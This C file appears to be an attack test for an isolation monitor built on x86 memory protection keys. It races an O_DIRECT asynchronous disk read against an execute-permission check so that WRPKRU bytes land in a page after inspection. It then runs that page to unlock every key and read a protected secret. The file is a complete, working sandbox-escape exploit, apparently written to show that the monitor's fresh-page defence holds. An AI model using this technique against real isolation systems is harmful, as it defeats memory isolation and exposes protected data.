/* SPDX-License-Identifier: MIT */
/* atk_aio_late_write.c: a writer that holds the page from before the grant.
 *
 * Untrusted code makes a fresh RW page, queues an O_DIRECT AIO read of a
 * file page holding "wrpkru; ret" into it behind large O_DIRECT reads
 * (io_submit pins the page for writing at once; the device fills it
 * later), and asks for read+execute at once.  If the grant inspects the
 * bytes in the same physical page, the device writes WRPKRU into it after
 * the inspection, through the pin, whatever the permissions are by then.
 * Succeeded: the page is r-x (by /proc/self/maps) and holds WRPKRU (where
 * the CPU has protection keys, the code is then run and the secret read).
 * erim-tem grants execute only on fresh pages it made after its inspection
 * (tem/tem_fresh.c), so the late write lands in a page no longer mapped.
 * Needs a device that fills the page later: a file on a disk-backed file
 * system with O_DIRECT (ATK_AIO_DIR, default /var/tmp) or a scratch block
 * device (ATK_AIO_DEV, overwritten: the PKU guest's --disk, vm_tem_aio.sh);
 * in memory (tmpfs, ramfs) not applicable. */
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/magic.h>
#include <sys/vfs.h>

#include "atk_common.h"

#define PG 4096
#define NBIG 16
#define BIG (1 << 20)
#define ATTEMPTS 100

static int perms_of(const void *p, char out[5])
{
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");
	int found = 0;

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof line, f)) {
		unsigned long s, e;

		if (sscanf(line, "%lx-%lx %4s", &s, &e, out) == 3 && (unsigned long)p >= s && (unsigned long)p < e)
			found = 1;
	}
	fclose(f);
	return found;
}

/* The code page at offset 0 of FD, the large reads from BIG on. */
static int fill(int fd, uint8_t *scratch)
{
	uint8_t page[PG];
	int ok;

	memset(page, 0x90, PG);
	page[0] = 0x0f, page[1] = 0x01, page[2] = 0xef, page[3] = 0xc3;   /* wrpkru; ret */
	ok = pwrite(fd, page, PG, 0) == PG;
	memset(scratch, 1, (size_t)NBIG * BIG);
	for (int i = 0; ok && i < NBIG; i++)   /* real blocks on disk, not holes */
		ok = pwrite(fd, scratch, BIG, (off_t)(i + 1) * BIG) == BIG;
	return ok && fsync(fd) == 0 ? 0 : -1;
}

/* Where the CPU has keys: run the page with EAX=0 (all keys open) and read
 * the secret as untrusted code. */
static void run_payload(uint8_t *page)
{
	void (*fn)(void) = (void (*)(void))(void *)page;

	if (atk_pkey <= 0)
		return;
	__asm__ volatile("call *%0" : : "r"(fn), "a"(0), "c"(0), "d"(0) : "memory");
	atk_say("ran it: PKRU now 0x%x, secret byte 0x%02x read", atk_rdpkru(), atk_secret[0]);
}

static enum atk_result atk_attack(void)
{
	const char *dev = getenv("ATK_AIO_DEV"), *dir = getenv("ATK_AIO_DIR") ? getenv("ATK_AIO_DIR") : "/var/tmp";
	char path[256];
	uint8_t *scratch = aligned_alloc(PG, (size_t)NBIG * BIG), *page;
	aio_context_t ctx = 0;
	struct statfs sfs;
	int fd, refused = 0;
	enum atk_result r = ATK_REFUSED;

	if (dev)
		snprintf(path, sizeof path, "%s", dev);
	else
		snprintf(path, sizeof path, "%s/atk_aio.%d", dir, (int)getpid());
	if (!dev && statfs(dir, &sfs) == 0 && (sfs.f_type == TMPFS_MAGIC || sfs.f_type == RAMFS_MAGIC)) {
		atk_say("%s is in memory (no device fills the page later): set ATK_AIO_DIR to a disk-backed "
		        "file system or ATK_AIO_DEV to a block device", dir);
		return ATK_NA;
	}
	fd = open(path, dev ? O_RDWR : O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (!scratch || fd < 0 || fill(fd, scratch) != 0) {
		atk_say("cannot write %s: %s", path, strerror(errno));
		if (!dev)
			unlink(path);
		return ATK_ERROR;
	}
	close(fd);
	fd = open(path, O_RDONLY | O_DIRECT);
	if (!dev)
		unlink(path);
	if (fd < 0 || syscall(SYS_io_setup, 64, &ctx) != 0) {
		atk_say("no O_DIRECT AIO on %s (%s): set ATK_AIO_DIR to a disk-backed file system", path, strerror(errno));
		return ATK_NA;
	}
	for (int attempt = 1; attempt <= ATTEMPTS && r == ATK_REFUSED; attempt++) {
		struct iocb cb[NBIG + 1], *cbs[NBIG + 1];
		struct io_event ev[NBIG + 1];
		char perms[5] = "";
		long rc;
		int got = 0;

		page = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (page == MAP_FAILED)
			return ATK_ERROR;
		memset(page, 0, PG);   /* populated and clean: what an inspection sees */
		memset(cb, 0, sizeof cb);
		for (int i = 0; i <= NBIG; i++) {
			cb[i].aio_lio_opcode = IOCB_CMD_PREAD;
			cb[i].aio_fildes = (uint32_t)fd;
			cb[i].aio_buf = (uint64_t)(uintptr_t)(i < NBIG ? scratch + (size_t)i * BIG : page);
			cb[i].aio_nbytes = i < NBIG ? BIG : PG;
			cb[i].aio_offset = i < NBIG ? (int64_t)(i + 1) * BIG : 0;
			cbs[i] = &cb[i];
		}
		if (syscall(SYS_io_submit, ctx, (long)(NBIG + 1), cbs) != NBIG + 1) {
			atk_say("io_submit: %s", strerror(errno));
			return ATK_ERROR;
		}
		rc = mprotect(page, PG, PROT_READ | PROT_EXEC);   /* the grant, at once */
		while (got < NBIG + 1) {
			long n = syscall(SYS_io_getevents, ctx, 1L, (long)(NBIG + 1 - got), ev, NULL);

			if (n < 0 && errno != EINTR)
				return ATK_ERROR;
			got += n > 0 ? (int)n : 0;
		}
		if (rc != 0) {
			refused++;
		} else if (perms_of(page, perms) && perms[2] == 'x' && perms[1] != 'w' &&
		           page[0] == 0x0f && page[1] == 0x01 && page[2] == 0xef) {
			atk_say("attempt %d: page %p is %s and holds WRPKRU written after the grant (%d grants refused before)",
			        attempt, (void *)page, perms, refused);
			run_payload(page);
			r = ATK_SUCCEEDED;
			continue;
		}
		munmap(page, PG);
	}
	if (r == ATK_REFUSED)
		atk_say("%d attempts: %d grants refused (WRPKRU seen), none left WRPKRU in executable memory", ATTEMPTS, refused);
	return r;
}

static const char *atk_name = "atk_aio_late_write";
static int atk_needs_pku = 0;
